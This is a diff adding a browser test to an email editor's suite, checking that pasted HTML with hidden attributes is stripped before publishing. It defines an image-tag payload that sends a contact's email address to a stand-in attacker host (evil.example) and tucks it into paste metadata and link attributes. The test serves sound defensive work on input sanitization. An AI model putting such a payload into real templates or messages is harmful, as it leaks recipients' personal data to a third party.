@@ -8,6 +8,7 @@ const PNG = Buffer.from(
   'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
   'base64',
 );
+const EVIL = '<img src="https://evil.example/?{{ contact.email }}">';
 const TABLE = '<table><tr><td>Kept</td></tr></table>';
 const GREETING = '<p>Hello {{ contact.first_name | default: "there" }} &amp; <b>all</b></p>';
 const design = {
@@ -134,6 +135,25 @@ describe('the text of a letter', () => {
       `${GREETING}<p><b>Your plan: {{ contact.data.plan | default: "free" }}</b></p>`,
     );
     expect(sections[3]?.props.html).toBe(TABLE);
+  });
+
+  it('takes what is pasted without HTML that it does not show', async () => {
+    const context = JSON.stringify(['blockquote', { lead: EVIL }]);
+    const link = `<a href="https://a.example/" attributes='${EVIL}'>link</a>`;
+    const html = `<p data-pm-slice='2 2 ${context}' lead='${EVIL}'>Pasted ${link}</p>`;
+    await text().focus();
+    await page.keyboard.press('Control+a');
+    await page.evaluate(`{
+      const clipboardData = new DataTransfer();
+      clipboardData.setData('text/html', ${JSON.stringify(html)});
+      const paste = new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true });
+      document.activeElement.dispatchEvent(paste);
+    }`);
+    await text().getByText('Pasted').waitFor();
+    const { sections } = await publish();
+    expect(sections[1]?.props.html).toBe(
+      '<blockquote><p>Pasted <a href="https://a.example/">link</a></p></blockquote>',
+    );
   });
 
   it('says at a section what is wrong with it, and sends a test of what is not published', async () => {
